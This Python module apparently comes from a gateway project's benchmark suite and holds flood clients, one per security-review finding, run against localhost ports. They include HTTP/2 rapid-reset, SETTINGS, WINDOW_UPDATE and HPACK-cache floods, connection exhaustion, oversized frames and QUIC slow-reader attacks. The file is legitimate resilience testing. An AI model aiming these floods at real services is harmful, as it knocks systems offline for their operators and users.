"""Attacking clients for the benchmark `floods`, one for each finding of the security review.

`python -m benchmarks.gateway.attackers NAME SECONDS PORT... [--keys DIR]` prints `ready`, waits for
a line, sends the flood for the given time and prints the amount sent. A name begins with the number
of its finding. The rate has no limit: each connection sends as soon as the attacked port accepts
data, and a closed connection is opened again. The process lowers its own priority, see
`benchmarks.gateway.floods`.
"""

import argparse
import os
import resource
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from datetime import UTC, datetime
from functools import partial
from itertools import count
from pathlib import Path

import trio
from hpack import Encoder
from msgspec import Struct

from ringfence.client.url import parse_token
from ringfence.gateway.grpc.http2_sender import Kind, frame
from ringfence.limiter import MAX_CARRIED_SLOTS, NS_PER_SECOND, Limit
from ringfence.transport.interface import Connection
from ringfence.transport.quic.connection import QuicConnection
from ringfence.transport.settings import Settings
from ringfence.transport.tls.certificates import ClientTls, load_client_tls
from ringfence.transport.udp.udp_trio import TrioUdp
from ringfence.wire import AskRules, Batch, Hello, Op, Request, Role, encode

__all__ = ["FLOODS", "NICER", "TOKEN"]

NICER = 5
"""Levels between the priority of the nodes and that of the attacker."""
TOKEN = "attacker"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(Kind.SETTINGS, 0, 0, b"")
_WATCH, _HEALTH = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
_EMPTY = bytes(5)
"""An empty gRPC message."""
_GONE = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)
_HOST = "127.0.0.2"
"""Address of the attacker, different from that of the healthy client."""
_MANY_STREAMS = 1 << 30


class _Target(Struct):
    """Target of a flood, and the amount of data sent to it."""

    ports: list[int]
    keys: Path
    seconds: float
    sent: int = 0


_Flood = Callable[[_Target], Awaitable[None]]


async def _many(tasks: int, work: Callable[[], Awaitable[None]]) -> None:
    """Run the attack `work` on several connections at once; replace each connection that ends."""

    async def again() -> None:
        while True:
            try:
                await work()
            except _GONE:
                await trio.lowlevel.checkpoint()

    async with trio.open_nursery() as nursery:
        for _ in range(tasks):
            nursery.start_soon(again)


# -- the gateway's ports: HTTP/2 in raw frames -----------------------------------------------------


async def _speak(
    target: _Target, port: int, host: str, send: Callable[[trio.SocketStream], Awaitable[None]]
) -> None:
    """Connect to a TCP port, send data, and read answers until the server closes the connection."""
    async with (
        await trio.open_tcp_stream("127.0.0.1", port, local_address=host) as stream,
        trio.open_nursery() as nursery,
    ):

        async def sending() -> None:
            try:
                await send(stream)
            except _GONE:
                nursery.cancel_scope.cancel()

        nursery.start_soon(sending)
        try:
            while await stream.receive_some(65_536):
                pass
        except _GONE:
            pass
        nursery.cancel_scope.cancel()


def _header(path: str, encoder: Encoder | None = None) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path)]
    block: bytes = (encoder or Encoder()).encode([*fields, ("content-type", "application/grpc")])
    return block


def _call(stream: int, header: bytes) -> bytes:
    return frame(Kind.HEADERS, 4, stream, header) + frame(Kind.DATA, 1, stream, _EMPTY)


def _plain_header(path: str) -> bytes:
    """Return an HPACK header block that adds no entry to the dynamic table, so that each call can
    repeat it."""
    fields = ((b":path", path.encode()), (b"content-type", b"application/grpc"))
    block = b"\x83\x86"  # `:method: POST` and `:scheme: http`
    for name, value in fields:
        block += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return block


async def _watches(target: _Target) -> None:
    """Attack of security finding P3: gRPC health watches without a token, on five connections."""
    header = _plain_header(_WATCH)

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(_PREFACE)
        for number in range(1, _MANY_STREAMS, 200):
            calls = [_call(each, header) for each in range(number, number + 200, 2)]
            await stream.send_all(b"".join(calls))
            target.sent += len(calls)

    await _many(5, lambda: _speak(target, target.ports[0], _HOST, send))


async def _cached_headers(target: _Target) -> None:
    """Attack of security finding P5: an indexed header field of 4 kB that requests reference many
    times."""
    indexed = b"\x83\x86\x84\x40\x0dauthorization\x7f" + b"\xa1\x1e" + 4000 * b"v"
    repeated = b"\x83\x86\x84" + 3 * b"\xbe"

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(_PREFACE + frame(Kind.HEADERS, 5, 1, indexed))
        for number in range(3, _MANY_STREAMS, 100):
            # A static field differs per request, so that no request is found in the cache.
            requests = [
                frame(Kind.HEADERS, 5, each, repeated + bytes([0x80 | 15 + each % 40, 0x90]))
                for each in range(number, number + 100, 2)
            ]
            await stream.send_all(b"".join(requests))
            target.sent += len(requests)

    await _many(200, lambda: _speak(target, target.ports[0], _HOST, send))


async def _frames(target: _Target, flood: bytes, each: int, streams: int) -> None:
    """Open HTTP/2 streams with a window of 0 for answers, then send the frames in `flood`
    repeatedly."""
    none = frame(Kind.SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    header = _plain_header(_HEALTH)
    first = _PREFACE + none + b"".join([_call(2 * n + 1, header) for n in range(streams)])

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(first)
        while True:
            await stream.send_all(flood)
            target.sent += each

    await _many(16, lambda: _speak(target, target.ports[0], _HOST, send))


async def _settings(target: _Target) -> None:
    """Attack of security finding P6: each SETTINGS frame changes the initial window 2730 times,
    with 990 streams open."""
    values = b"".join([struct.pack(">HI", 4, each % 2) for each in range(2730)])
    await _frames(target, 20 * frame(Kind.SETTINGS, 0, 0, values), 20, 990)


async def _updates(target: _Target) -> None:
    """Attack of security finding P6: WINDOW_UPDATE frames for the connection, with 990 streams
    open."""
    update = frame(Kind.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    await _frames(target, 1000 * update, 1000, 990)


async def _empty_frames(target: _Target) -> None:
    """Attack of security finding P6: empty DATA frames."""
    first = frame(Kind.HEADERS, 4, 1, _plain_header(_HEALTH))
    empty = 1000 * frame(Kind.DATA, 0, 1, b"")

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(_PREFACE + first)
        while True:
            await stream.send_all(empty)
            target.sent += 1000

    await _many(16, lambda: _speak(target, target.ports[0], _HOST, send))


async def _resets(target: _Target) -> None:
    """Attack of security finding P6: gRPC calls that the client resets immediately."""
    header = _plain_header(_HEALTH)

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(_PREFACE)
        for number in range(1, _MANY_STREAMS, 200):
            calls = [
                _call(each, header) + frame(Kind.RST_STREAM, 0, each, bytes(4))
                for each in range(number, number + 200, 2)
            ]
            await stream.send_all(b"".join(calls))
            target.sent += len(calls)

    await _many(16, lambda: _speak(target, target.ports[0], _HOST, send))


async def _connections(target: _Target) -> None:
    """Attack of security finding P7: 3000 connections from one address that send only the HTTP/2
    preface."""

    async def send(stream: trio.SocketStream) -> None:
        await stream.send_all(_PREFACE)
        target.sent += 1
        await trio.sleep_forever()

    await _many(3000, lambda: _speak(target, target.ports[0], _HOST, send))


# -- a node's UDP port -----------------------------------------------------------------------------

_MAPS = b"\x94\x09\x01\x01\xdc\x00\x1f" + (b"\xdc\x80\x00" + b"\x80" * 0x8000) * 31
"""`Rules` of a million empty maps, almost as large as a frame may be."""


class _Caller:
    """Attacker's connection to a node."""

    def __init__(self) -> None:
        self.opened, self.closed = trio.Event(), trio.Event()
        self.answered = 0
        self.changed = trio.Event()
        self.connection: Connection | None = None

    def on_open(self, connection: Connection) -> None:
        self.connection = connection
        self.opened.set()

    def on_message(self, payload: bytes) -> None:
        self.answered += 1
        self.changed.set()
        self.changed = trio.Event()

    def on_close(self, code: int, reason: str) -> None:
        self.closed.set()
        self.opened.set()
        self.changed.set()

    def send(self, transport: TrioUdp, *messages: bytes) -> None:
        assert self.connection is not None
        for message in messages:
            self.connection.send(message)
        transport.flush()

    def stop_reading(self) -> None:
        assert isinstance(self.connection, QuicConnection)
        assert self.connection.quic is not None
        self.connection.receive_window = self.connection.quic.window = 0

    async def wait_answers(self, number: int) -> None:
        while self.answered < number and not self.closed.is_set():
            await self.changed.wait()


async def _over_quic(
    target: _Target,
    tasks: int,
    work: Callable[[TrioUdp, _Caller, int], Awaitable[None]],
    settings: Settings | None = None,
) -> None:
    """Run the attack `work` on several QUIC connections at once; replace each connection that
    ends."""
    ca = target.keys / "ca.pem"
    tls = load_client_tls(ca, datetime.now(UTC)) if ca.exists() else ClientTls(verify=False)
    transport = TrioUdp((_HOST, 0), on_bug=print, client=tls, settings=settings)
    turns = count()

    async def one() -> None:
        caller = _Caller()
        number = next(turns)
        port = target.ports[number % len(target.ports)]
        transport.connect(("127.0.0.1", port), caller)
        await caller.opened.wait()
        if caller.connection is not None:
            await work(transport, caller, number)

    async with trio.open_nursery() as nursery:
        await nursery.start(transport.run)
        await _many(tasks, one)


def _hello(target: _Target, session: int) -> bytes:
    token = parse_token((target.keys / f"{TOKEN}.token").read_text("ascii").strip())
    return encode(Hello(Role.CLIENT, token.name, token.secret, session))


async def _large_hellos(target: _Target) -> None:
    """Attack of security finding P4: a frame of a million empty maps before any `Hello`, on 16
    connections."""

    async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
        caller.send(transport, _MAPS)
        target.sent += 1
        await caller.closed.wait()

    await _over_quic(target, 16, work)


async def _asking(
    target: _Target, tasks: int, in_flight: int, make: Callable[[int], bytes]
) -> None:
    """Send requests to nodes on several QUIC connections, with a few requests in flight on each."""
    order = count(1)

    async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
        caller.send(transport, _hello(target, 1000 + number))
        for sent in count(1):
            caller.send(transport, make(next(order)))
            target.sent += 1
            await caller.wait_answers(sent - in_flight)
            if caller.closed.is_set():
                return

    await _over_quic(target, tasks, work)


_MANY = 2**53 - 1
_CARRIED_ROWS = 250
_FINE = Limit.of_ns(_MANY, 3600 * NS_PER_SECOND, slots=3600)
_LARGEST = Limit.of_ns(_MANY, 3600 * NS_PER_SECOND, slots=MAX_CARRIED_SLOTS)


async def _carried_limits(target: _Target) -> None:
    """Attack of security finding P8: requests with new keys, whose limits have the maximum number
    of slots or too many."""

    def make(seq: int) -> bytes:
        keys = [b"attack%d-%d" % (seq, number) for number in range(_CARRIED_ROWS)]
        limit = _LARGEST if seq % 4 else _FINE
        return encode(_request(seq, 1000, keys, limit))

    await _asking(target, 8, 4, make)


def _request(
    seq: int, deadline_ms: int, keys: list[bytes], limit: Limit, *, as_standby: bool = False
) -> Request:
    costs, which = [1] * len(keys), [1] * len(keys)
    return Request(
        seq, 0, deadline_ms, 0, as_standby, Batch(Op.CHECK, keys, costs, [], [limit], which)
    )


async def _takeovers(target: _Target) -> None:
    """Attack of security finding P9: one node must decide keys of all owners as a standby, within 1
    ms."""
    limit = Limit.of_ns(1_000_000, 60 * NS_PER_SECOND)

    def make(seq: int) -> bytes:
        keys = [b"taken%d-%d" % (seq % 500, number) for number in range(40)]
        return encode(_request(seq, 1, keys, limit, as_standby=True))

    await _asking(target, 6, 4, make)


async def _slow_readers(target: _Target) -> None:
    """Attack of security finding P14: 150 connections that request the rules and do not read the
    answers."""

    async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
        caller.send(transport, _hello(target, 1000 + number))
        await caller.wait_answers(1)
        if caller.closed.is_set():
            return
        caller.stop_reading()
        for seq in range(1, 5):
            caller.send(transport, encode(AskRules(seq)))
            target.sent += 1
        await caller.closed.wait()

    small = Settings(receive_window=64 << 10, untrusted_receive_window=64 << 10)
    await _over_quic(target, 150, work, small)


# -- the admin port ---------------------------------------------------------------------------

_ASK = b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n"


async def _operator(target: _Target, request: bytes, tasks: int = 100) -> None:
    """Send requests to the admin port on several connections; replace each connection that
    closes."""

    async def send(stream: trio.SocketStream) -> None:
        target.sent += 1
        await stream.send_all(request)

    await _many(tasks, lambda: _speak(target, target.ports[0], _HOST, send))


FLOODS: dict[str, _Flood] = {
    "p3_watches": _watches,
    "p4_hellos": _large_hellos,
    "p5_headers": _cached_headers,
    "p6_settings": _settings,
    "p6_updates": _updates,
    "p6_resets": _resets,
    "p6_empty_frames": _empty_frames,
    "p7_grpc": _connections,
    "p7_http": _connections,
    "p8_slots": _carried_limits,
    "p9_takeovers": _takeovers,
    "p14_slow_readers": _slow_readers,
    "p15_new": partial(_operator, request=_ASK % b"/metrics"),
    "p15_kept": partial(_operator, request=_ASK % b"/metrics" * 100),
    "p15_health": partial(_operator, request=_ASK % b"/healthz" * 100),
    "p15_silent": partial(_operator, request=b"GET / HTTP/1.1\r\n"),
}
"""Floods by name: the finding's number, then the kind of traffic."""


async def _attack(flood: _Flood, target: _Target) -> None:
    with trio.move_on_after(target.seconds):
        await flood(target)


def _lower_priority() -> None:
    """Lower the priority of this process.

    Where the kernel schedules by session (autogroup), also lower that of its session.
    """
    os.nice(NICER)
    with suppress(OSError, ValueError):
        os.setsid()
        group = Path(f"/proc/{os.getppid()}/autogroup").read_text("ascii")
        mine = min(19, int(group.rpartition(" ")[2]) + NICER)
        Path("/proc/self/autogroup").write_text(str(mine), "ascii")


def _main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=FLOODS)
    parser.add_argument("seconds", type=float)
    parser.add_argument("ports", type=int, nargs="+")
    parser.add_argument("--keys", type=Path, default=Path())
    options = parser.parse_args()
    _lower_priority()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    target = _Target(options.ports, options.keys, options.seconds)
    print("ready", flush=True)
    input()
    trio.run(_attack, FLOODS[options.name], target)
    print(target.sent, flush=True)


if __name__ == "__main__":
    _main()
